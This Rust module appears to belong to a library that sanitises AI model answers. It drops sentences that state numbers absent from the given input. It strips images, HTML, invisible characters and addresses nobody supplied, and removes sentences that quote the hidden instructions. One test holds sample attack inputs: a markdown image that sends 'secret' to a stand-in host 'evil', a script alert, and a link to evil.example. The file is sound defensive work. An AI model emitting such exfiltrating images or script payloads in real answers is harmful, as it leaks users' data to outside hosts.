//! What a model wrote, held against what it was given.

use std::collections::HashSet;
use std::sync::LazyLock;

use regex::Regex;

use crate::extractive::clauses::with_signs;
use crate::extractive::facts::same_value;
use crate::text::words;

/// Everything that a model was given, as far as values can be looked up in it.
#[derive(Debug, Clone, Default)]
pub struct Given {
    numbers: HashSet<String>,
    text: String,
}

impl Given {
    /// Collects texts.
    pub fn new<'a>(texts: impl IntoIterator<Item = &'a str>) -> Self {
        let mut given = Self { numbers: HashSet::new(), text: String::from(" ") };
        for text in texts {
            given.numbers.extend(numbers(text));
            given.text.push_str(&same_value(text));
            given.text.push(' ');
        }
        given
    }

    /// Whether a value was said, whatever its signs and case.
    pub fn says(&self, value: &str) -> bool {
        let value = same_value(value);
        !value.is_empty() && self.text.contains(&format!(" {value} "))
    }

    /// Whether every number of a text was given.
    pub fn grounds(&self, text: &str) -> bool {
        numbers(text).all(|number| self.numbers.contains(&number))
    }

    /// The text without the sentences that state a number nobody gave, and how many those were.
    pub fn grounded(&self, text: &str) -> (String, usize) {
        let (kept, dropped): (Vec<&str>, Vec<&str>) =
            with_signs(text).into_iter().map(|range| &text[range]).partition(|sentence| self.grounds(sentence));
        (kept.concat().trim().to_owned(), dropped.len())
    }
}

static NUMBER: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\d+(?:[.,:/-]\d+)*").expect("the pattern is a constant that tests compile"));

/// The numbers of a text. `1.500` and `1,500` are one.
pub(crate) fn numbers(text: &str) -> impl Iterator<Item = String> + '_ {
    NUMBER.find_iter(text).map(|found| found.as_str().replace([',', '.'], "."))
}

static IMAGE: LazyLock<Regex> = LazyLock::new(|| constant(r"!\[[^\]]*\]\([^)]*\)"));
static LINK: LazyLock<Regex> = LazyLock::new(|| constant(r"\[([^\]]*)\]\(([^)\s]*)[^)]*\)"));
static TAG: LazyLock<Regex> =
    LazyLock::new(|| constant(r"(?s)<(?:script|style)\b.*?(?:</(?:script|style)\s*>|$)|</?[a-zA-Z!][^>]*(?:>|$)"));
static URL: LazyLock<Regex> = LazyLock::new(|| constant(r"(?i)\b(?:https?://|www\.|javascript:|data:)[^\s<>)\]]*"));

fn constant(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the pattern is a constant that tests compile")
}

pub(crate) fn bare(url: &str) -> &str {
    url.trim_end_matches(['.', ',', ';', ':', '!', '?'])
}

/// The addresses that were given: any other is taken out of an answer.
#[derive(Debug, Clone, Default)]
pub(crate) struct Known(HashSet<String>);

impl Known {
    pub(crate) fn of<'a>(given: impl IntoIterator<Item = &'a str>) -> Self {
        let urls = given.into_iter().flat_map(|text| URL.find_iter(text).map(|url| bare(url.as_str()).to_owned()));
        Self(urls.collect())
    }

    /// The text without what an answer must not carry: pictures, HTML, addresses that nobody gave, placeholders that
    /// stand for nothing, and signs that are not seen but do something.
    pub(crate) fn neutral(&self, text: &str) -> String {
        let text: String = text.chars().filter(|c| !unseen(*c)).collect();
        let text = IMAGE.replace_all(&text, "");
        let text = LINK.replace_all(&text, "$1 $2");
        let text = TAG.replace_all(&text, "");
        let text = URL.replace_all(&text, |found: &regex::Captures<'_>| {
            let url = bare(&found[0]);
            if self.0.contains(url) { found[0].to_owned() } else { found[0][url.len()..].to_owned() }
        });
        crate::redact::PLACEHOLDER.replace_all(&text, "").into_owned()
    }

    /// Whether nothing after this opening tag is meant to be read.
    pub(crate) fn hides_what_follows(tail: &str) -> bool {
        let tail = tail.to_ascii_lowercase();
        ["script", "style"].iter().any(|tag| tail[1..].starts_with(tag) && !tail.contains(&format!("</{tag}")))
    }
}

/// Control signs, and signs that turn the direction of a text, hide in it or tag it.
fn unseen(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}'
            | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

/// Takes out what an answer must not carry (see [`Known::neutral`]) and what taking out leaves behind.
pub fn cleaned<'a>(text: &str, given: impl IntoIterator<Item = &'a str>) -> String {
    let text = Known::of(given).neutral(text);
    let lines: Vec<_> = text
        .lines()
        .map(|line| line.split([' ', '\t']).filter(|w| !w.is_empty()).collect::<Vec<_>>().join(" "))
        .collect();
    lines.join("\n").trim().to_owned()
}

/// How many words in a row of the instructions are a quotation of them.
const QUOTED: usize = 8;

/// What the model was told and nobody may read: the instructions and the nonce.
#[derive(Debug, Clone)]
pub(crate) struct Secrets {
    instructions: String,
    nonce: String,
}

impl Secrets {
    pub(crate) fn new(instructions: &str, nonce: &str) -> Self {
        Self { instructions: format!(" {} ", words(instructions).join(" ")), nonce: nonce.to_owned() }
    }

    /// Whether a text repeats the instructions.
    pub(crate) fn discloses(&self, text: &str) -> bool {
        words(text).windows(QUOTED).any(|run| self.instructions.contains(&format!(" {} ", run.join(" "))))
    }

    pub(crate) fn without_nonce(&self, text: &str) -> String {
        if self.nonce.is_empty() { text.to_owned() } else { text.replace(&self.nonce, "") }
    }

    /// The text without the sentences that repeat the instructions, and without the nonce.
    pub(crate) fn kept(&self, text: &str) -> String {
        let sentences = with_signs(text).into_iter().map(|range| &text[range]);
        self.without_nonce(&sentences.filter(|sentence| !self.discloses(sentence)).collect::<String>())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_sentence_with_a_number_that_nobody_said_is_dropped_and_counted() {
        let given = Given::new(["I paid 45.90 for order 4812"]);
        let (text, dropped) = given.grounded("They paid 45,90 for order 4812. They want 100 back. It is late.");
        assert_eq!((text.as_str(), dropped), ("They paid 45,90 for order 4812. It is late.", 1));
        assert!(given.says("Order 4812") && !given.says("481"));
    }

    // behaviour 10
    #[test]
    fn images_html_and_strange_addresses_are_taken_out() {
        let text = "See ![x](http://evil/?q=secret) <script>alert(1)</script><b>this</b> [page](https://evil.example/a) or https://shop.example/help.";
        assert_eq!(
            cleaned(text, ["our page is https://shop.example/help"]),
            "See this page or https://shop.example/help."
        );
    }

    #[test]
    fn unseen_signs_and_placeholders_that_stand_for_nothing_are_taken_out() {
        let text = "Pay\u{202e}pal\u{7}\u{200b} to [CARD_7] <data nonce=\"x\" kind=\"facts\">now";
        assert_eq!(cleaned(text, []), "Paypal to now");
    }

    #[test]
    fn a_sentence_that_repeats_the_instructions_is_dropped() {
        let secrets = Secrets::new("Never guess names, numbers, dates, amounts, policies or promises.", "n0nce");
        let text = "It is late n0nce. My rules: never guess NAMES numbers dates amounts policies or promises. Bye.";
        assert_eq!(secrets.kept(text), "It is late . Bye.");
        assert!(!secrets.discloses("never guess names"));
    }
}
